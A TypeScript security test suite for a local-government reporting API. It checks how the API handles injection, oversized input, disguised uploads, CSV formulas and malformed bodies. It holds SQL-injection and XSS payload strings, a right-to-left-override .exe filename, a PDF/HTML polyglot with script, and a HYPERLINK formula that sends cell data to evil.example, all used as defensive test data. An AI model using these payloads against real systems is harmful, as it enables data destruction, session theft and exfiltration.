// Input attacks: SQL and HTML injection strings in every free-text field come back exactly as
// written and never run; oversized bodies and uploads get 413; a PDF/HTML polyglot is only ever
// served as an attachment with nosniff; a CSV import with formulas or too many rows is refused or
// neutralised. (OWASP API8 / ASVS 5.2, 5.3, 12.1, 12.5.) There is no XLSX import in the API (XLSX
// is only written, for exports), so there is no zip bomb to refuse; the CSV import is a JSON string
// capped by the body limit.
import { randomUUID } from 'node:crypto';
import type { LaporanDetail } from '@sip/contracts';
import { skmUnsurKeys } from '@sip/contracts';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loggedIn } from '../helpers';
import { signedSkmForm } from '../skm-ballot';
import { matrix } from './authz-matrix';
import { buildWorld, multipart, NOW, PDF, type World } from './foreign-world';

const PAYLOADS = [
  "'; DROP TABLE users; --",
  "' OR '1'='1' --",
  'Robert"); DELETE FROM laporan; --',
  '1; SELECT pg_sleep(5); --',
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror="alert(1)">',
  '"><svg/onload=alert(1)>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection probe, on purpose
  '{{7*7}} ${7*7} #{7*7}',
  'Jl. Ir. H. Juanda — \u202Egnp.exe 🙂',
];

let world: World;
beforeAll(async () => {
  world = await buildWorld({ MAX_UPLOAD_BYTES: '65536' });
}, 240_000);
afterAll(() => world?.ctx.close());

async function tablesIntact() {
  const db = world.ctx.database.db;
  const users = await db.execute(sql`select count(*)::int as n from users`);
  const laporan = await db.execute(sql`select count(*)::int as n from laporan`);
  const rows = (r: unknown) => ((r as { rows?: { n: number }[] }).rows ?? (r as { n: number }[]))[0]!.n;
  expect(rows(users)).toBeGreaterThan(0);
  expect(rows(laporan)).toBeGreaterThan(0);
}

describe('injection strings round-trip unchanged', () => {
  it('unit profile (alamat, jam pelayanan)', async () => {
    const lurah = world.clients.lurah;
    let version = (await lurah.request('GET', '/api/unit/32.73.02.1004')).json().version as number;
    for (const p of PAYLOADS) {
      const put = await lurah.request('PUT', '/api/unit/32.73.02.1004/profil', {
        alamatKantor: p,
        telepon: '022-123',
        email: '',
        jamPelayanan: p.slice(0, 120),
        version,
      });
      expect(put.statusCode, put.body).toBe(200);
      const got = await lurah.request('GET', '/api/unit/32.73.02.1004');
      expect(got.headers['content-type']).toMatch(/^application\/json/);
      expect(got.headers['x-content-type-options']).toBe('nosniff');
      expect(got.json()).toMatchObject({ alamatKantor: p, jamPelayanan: p.slice(0, 120) });
      version = got.json().version;
    }
    await tablesIntact();
  });

  it("user's nama lengkap, and the search over it", async () => {
    const admin = world.clients.admin;
    for (const [i, p] of PAYLOADS.entries()) {
      const nama = `Nama ${p}`.slice(0, 120);
      const created = await admin.request('POST', '/api/users', {
        username: `injeksi.${i}.${randomUUID().slice(0, 4)}`,
        namaLengkap: nama,
        nip: null,
        roles: [{ role: 'operator', wilayahKode: '32.73.02.1001' }],
      });
      // A name must read as what it is: bidirectional controls are refused, with the reason.
      if (/[\u200e\u200f\u202a-\u202e\u2066-\u2069]/.test(nama)) {
        expect(created.statusCode).toBe(400);
        expect(created.json().error.message).toMatch(/pengatur arah teks/);
        continue;
      }
      expect(created.statusCode, created.body).toBe(201);
      const id = created.json().user.id;
      expect((await admin.request('GET', `/api/users/${id}`)).json().namaLengkap).toBe(nama.trim());
      const search = await admin.request('GET', `/api/users?q=${encodeURIComponent(p.slice(0, 100))}`);
      expect(search.statusCode, search.body).toBe(200);
    }
    // A search that is an injection finds nothing rather than everything.
    const all = await admin.request('GET', `/api/users?q=${encodeURIComponent("x' OR '1'='1")}`);
    expect(all.json().total).toBe(0);
    await tablesIntact();
  });

  it('laporan entry notes and a return reason', async () => {
    const { client } = await loggedIn(world.ctx, 'lurah', '32.73.02.1001');
    const opened = await client.request('POST', '/api/laporan', {
      wilayahKode: '32.73.02.1001',
      kind: 'bulanan',
      bulan: 3,
    });
    const d = opened.json() as LaporanDetail;
    const codes = d.indikatorCodes.slice(0, Math.min(d.indikatorCodes.length, PAYLOADS.length));
    const saved = await client.request('PATCH', `/api/laporan/${d.id}/isian`, {
      entries: codes.map((code, i) => ({ indikatorCode: code, value: 1, note: PAYLOADS[i], version: 0 })),
    });
    expect(saved.statusCode, saved.body).toBe(200);
    const detail = (await client.request('GET', `/api/laporan/${d.id}`)).json() as LaporanDetail & {
      entries: { indikatorCode: string; note: string }[];
    };
    for (const [i, code] of codes.entries()) {
      expect(detail.entries.find((e) => e.indikatorCode === code)?.note).toBe(PAYLOADS[i]!.trim());
    }
    // The home report waits for its camat: he returns it with an injection as the reason.
    const home = (await world.clients.camat.request('GET', `/api/laporan/${world.home.laporanId}`)).json();
    const reason = PAYLOADS[0]!;
    const returned = await world.clients.camat.request(
      'POST',
      `/api/laporan/${world.home.laporanId}/kembalikan`,
      {
        version: home.version,
        reason,
      },
    );
    expect(returned.statusCode, returned.body).toBe(200);
    const timeline = await world.clients.camat.request(
      'GET',
      `/api/laporan/${world.home.laporanId}/timeline`,
    );
    expect(timeline.body).toContain(JSON.stringify(reason).slice(1, -1));
    await tablesIntact();
  });

  it('SKM saran and layanan from the public form, and a void reason', async () => {
    const kode = '32.73.02.1003';
    for (const p of PAYLOADS) {
      const res = await world.ctx.app.inject({
        method: 'POST',
        url: `/api/public/skm/${kode}`,
        payload: {
          ...(await signedSkmForm(kode, new Date(NOW.getTime() - 60_000))),
          idempotencyKey: randomUUID(),
          jawaban: Object.fromEntries(skmUnsurKeys.map((k) => [k, 4])),
          layanan: p.slice(0, 100),
          saran: p,
        },
      });
      expect(res.statusCode, res.body).toBe(201);
    }
    const saran = await world.clients.admin.request('GET', `/api/skm/saran?kode=${kode}&pageSize=200`);
    expect(saran.statusCode, saran.body).toBe(200);
    const texts = (saran.json().items as { saran: string }[]).map((s) => s.saran);
    for (const p of PAYLOADS) expect(texts).toContain(p.trim());
    const voided = await world.clients.admin.request('POST', `/api/skm/jawaban/${world.home.skmId}/batal`, {
      alasan: PAYLOADS[4],
    });
    expect(voided.statusCode, voided.body).toBe(200);
    const rows = await world.clients.admin.request(
      'GET',
      `/api/skm/${world.home.kelurahan}/jawaban?tahun=2026`,
    );
    expect((rows.json().items as { voidReason: string | null }[]).map((r) => r.voidReason)).toContain(
      PAYLOADS[4],
    );
    await tablesIntact();
  });

  it('a NUL byte (which PostgreSQL text cannot hold) is a 400, never a 500', async () => {
    const lurah = world.clients.lurah;
    const version = (await lurah.request('GET', '/api/unit/32.73.02.1004')).json().version;
    const res = await lurah.request('PUT', '/api/unit/32.73.02.1004/profil', {
      alamatKantor: 'Jl. Nol\u0000Byte',
      telepon: '',
      email: '',
      jamPelayanan: '',
      version,
    });
    expect(res.statusCode, res.body).toBe(400);
    expect(res.json().error.code).toBe('VALIDATION');
  });
});

describe('oversized input', () => {
  it('a JSON body over BODY_LIMIT_BYTES is refused with 413 before it is parsed', async () => {
    const res = await world.clients.admin.request('POST', '/api/users/import', {
      csv: 'x'.repeat(300 * 1024),
      dryRun: true,
    });
    expect(res.statusCode).toBe(413);
    expect(res.json().error.code).toBe('PAYLOAD_TOO_LARGE');
  });

  it('an upload over MAX_UPLOAD_BYTES is refused with 413 and not stored', async () => {
    const { client } = await loggedIn(world.ctx, 'lurah', '32.73.02.1002');
    const d = (
      await client.request('POST', '/api/laporan', {
        wilayahKode: '32.73.02.1002',
        kind: 'bulanan',
        bulan: 3,
      })
    ).json();
    const big = Buffer.concat([PDF, Buffer.alloc(70_000, 0x20)]);
    const { payload, headers } = multipart('besar.pdf', big);
    const res = await client.request(
      'POST',
      `/api/laporan/${d.id}/isian/${d.indikatorCodes[0]}/bukti`,
      payload,
      { headers },
    );
    expect(res.statusCode).toBe(413);
    const after = (await client.request('GET', `/api/laporan/${d.id}`)).json();
    expect(JSON.stringify(after)).not.toContain('besar.pdf');
  });
});

describe('uploads that pretend', () => {
  it('a file name with a right-to-left override is stored and served without it', async () => {
    const { client } = await loggedIn(world.ctx, 'lurah', '32.73.02.1006');
    const d = (
      await client.request('POST', '/api/laporan', {
        wilayahKode: '32.73.02.1006',
        kind: 'bulanan',
        bulan: 3,
      })
    ).json();
    // "faktur\u202Efdp.exe" reads as "fakturexe.pdf" on screen while it ends in .exe.pdf here.
    const { payload, headers } = multipart('faktur\u202Efdp.exe.pdf', PDF);
    const up = await client.request(
      'POST',
      `/api/laporan/${d.id}/isian/${d.indikatorCodes[0]}/bukti`,
      payload,
      { headers },
    );
    expect(up.statusCode, up.body).toBe(201);
    expect(up.json().originalName).toBe('fakturfdp.exe.pdf');
    const got = await client.request('GET', `/api/bukti/${up.json().id}`);
    expect(got.headers['content-disposition']).not.toMatch(/%E2%80%AE/i);
  });

  const POLYGLOT = Buffer.concat([
    PDF.subarray(0, 9),
    Buffer.from('<html><body><script>alert(document.domain)</script></body></html>\n'),
    PDF.subarray(9),
  ]);

  it('a PDF/HTML polyglot is stored as PDF and only ever served as an attachment with nosniff', async () => {
    const { client } = await loggedIn(world.ctx, 'lurah', '32.73.02.1005');
    const d = (
      await client.request('POST', '/api/laporan', {
        wilayahKode: '32.73.02.1005',
        kind: 'bulanan',
        bulan: 3,
      })
    ).json();
    const { payload, headers } = multipart('laporan; filename=x.html.pdf', POLYGLOT, 'text/html');
    const up = await client.request(
      'POST',
      `/api/laporan/${d.id}/isian/${d.indikatorCodes[0]}/bukti`,
      payload,
      { headers },
    );
    expect(up.statusCode, up.body).toBe(201);
    const got = await client.request('GET', `/api/bukti/${up.json().id}`);
    expect(got.statusCode).toBe(200);
    expect(got.headers['content-type']).toBe('application/pdf');
    expect(got.headers['content-disposition']).toMatch(/^attachment;/);
    expect(got.headers['x-content-type-options']).toBe('nosniff');
    expect(got.headers['content-security-policy']).toContain('sandbox');
    expect(got.headers['content-disposition']).toContain('filename="laporan; filename=x.html.pdf"');
  });

  it('a bare HTML file named .pdf is refused', async () => {
    const { client } = await loggedIn(world.ctx, 'lurah', '32.73.02.1006');
    const d = (
      await client.request('POST', '/api/laporan', {
        wilayahKode: '32.73.02.1006',
        kind: 'bulanan',
        bulan: 3,
      })
    ).json();
    const { payload, headers } = multipart(
      'bukti.pdf',
      Buffer.from('<html><script>alert(1)</script></html>'),
    );
    const up = await client.request(
      'POST',
      `/api/laporan/${d.id}/isian/${d.indikatorCodes[0]}/bukti`,
      payload,
      { headers },
    );
    expect(up.statusCode).toBeGreaterThanOrEqual(400);
    expect(up.statusCode).toBeLessThan(500);
  });
});

describe('CSV import', () => {
  it('formula cells are stored as text and neutralised on export', async () => {
    const admin = world.clients.admin;
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"klik")';
    const username = `formula.${randomUUID().slice(0, 6)}`;
    const csv = `username;nama_lengkap;nip;peran;kode_wilayah\n${username};"${formula.replaceAll('"', '""')}";;operator;32.73.02.1001\n`;
    const res = await admin.request('POST', '/api/users/import', { csv, dryRun: false });
    // Stored as the text it is (a name is data), and never handed back to a spreadsheet as a formula.
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json().users[0].namaLengkap).toBe(formula);
    const exported = await admin.request('GET', '/api/users/export.csv');
    const line = exported.body.split('\n').find((l) => l.includes(username));
    expect(line).toBeDefined();
    expect(line).toContain('HYPERLINK');
    expect(line).not.toMatch(/(^|[;,])"?=HYPERLINK/);
  });

  it('an import over the row limit is refused as a whole, quickly and within bounded memory', async () => {
    const rows = Array.from({ length: 5001 }, (_, i) => `u${i},Nama ${i},,operator,32.73.02.1001`);
    const csv = `username,nama_lengkap,nip,peran,kode_wilayah\n${rows.join('\n')}\n`;
    expect(csv.length).toBeLessThan(256 * 1024);
    const heap = process.memoryUsage().heapUsed;
    const started = Date.now();
    const res = await world.clients.admin.request('POST', '/api/users/import', { csv, dryRun: false });
    expect(Date.now() - started).toBeLessThan(10_000);
    expect(process.memoryUsage().heapUsed - heap).toBeLessThan(200 * 1024 * 1024);
    expect(JSON.stringify(res.json())).toContain('5000');
    const made = await world.clients.admin.request('GET', '/api/users?q=u4999');
    expect(made.json().total).toBe(0);
  });
});

type Json = unknown;

/** The valid body with the string at one path replaced by one holding a lone surrogate, for every string path. */
function withLoneSurrogate(body: Json, path: string[] = []): [string, Json][] {
  if (typeof body === 'string') return [[path.join('.'), `${body}\ud800`]];
  if (Array.isArray(body))
    return body.flatMap((v, i) =>
      withLoneSurrogate(v, [...path, String(i)]).map(([p, x]) => {
        const copy = [...body];
        copy[i] = x;
        return [p, copy] as [string, Json];
      }),
    );
  if (body && typeof body === 'object')
    return Object.entries(body).flatMap(([k, v]) =>
      withLoneSurrogate(v, [...path, k]).map(([p, x]) => [p, { ...body, [k]: x }] as [string, Json]),
    );
  return [];
}

describe('malformed input: a 400, never a 500, on every route of the route table', () => {
  it('a lone UTF-16 surrogate in any string of any JSON body is a 400 naming the field', async () => {
    const problems: string[] = [];
    let sent = 0;
    for (const route of world.ctx.app.routeTable.filter((r) => r.body)) {
      const key = `${route.method} ${route.url}`;
      const entry = matrix[key];
      if (!entry || entry.kind === 'list') continue;
      const req = entry.request(world.home);
      const client = route.public ? world.clients.anonymous : world.clients.admin;
      for (const [field, body] of withLoneSurrogate(req.body)) {
        sent++;
        const res = await client.request(route.method as 'POST', req.url, body);
        const details = (res.json().error?.details ?? []) as { path: string }[];
        if (res.statusCode !== 400 || !details.some((d) => d.path === `body.${field}`))
          problems.push(`${key} ${field}: ${res.statusCode} ${res.body.slice(0, 120)}`);
      }
    }
    expect(sent).toBeGreaterThan(30);
    expect(problems).toEqual([]);
  });

  it('a multipart body without a boundary, or cut short, is a 400 on every upload route', async () => {
    const uploads = Object.entries(matrix).filter(
      ([, e]) => e.kind !== 'list' && e.request(world.home).upload,
    );
    expect(uploads.length).toBeGreaterThan(0);
    const boundary = '----sip-rusak';
    const shapes: [string, string, Buffer][] = [
      ['no boundary', 'multipart/form-data', Buffer.from('isi tanpa batas')],
      [
        'cut short',
        `multipart/form-data; boundary=${boundary}`,
        Buffer.concat([
          Buffer.from(
            `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="a.pdf"\r\nContent-Type: application/pdf\r\n\r\n`,
          ),
          PDF.subarray(0, 40),
        ]),
      ],
      [
        'no part headers',
        `multipart/form-data; boundary=${boundary}`,
        Buffer.from(`--${boundary}\r\n\r\n--${boundary}--`),
      ],
    ];
    // A draft of the lurah's unit, so the upload reaches the body (a submitted report is refused first).
    const opened = await world.clients.lurah.request('POST', '/api/laporan', {
      wilayahKode: world.home.kelurahan,
      kind: 'bulanan',
      bulan: 1,
    });
    expect([200, 201]).toContain(opened.statusCode);
    const draft = { ...world.home, laporanId: opened.json().id as string };
    const problems: string[] = [];
    for (const [key, entry] of uploads) {
      if (entry.kind === 'list') continue;
      const req = entry.request(draft);
      for (const [name, type, payload] of shapes) {
        const res = await world.clients.lurah.request(key.split(' ')[0] as 'POST', req.url, payload, {
          headers: { 'content-type': type },
        });
        if (res.statusCode !== 400)
          problems.push(`${key} ${name}: ${res.statusCode} ${res.body.slice(0, 120)}`);
      }
    }
    expect(problems).toEqual([]);
  });
});
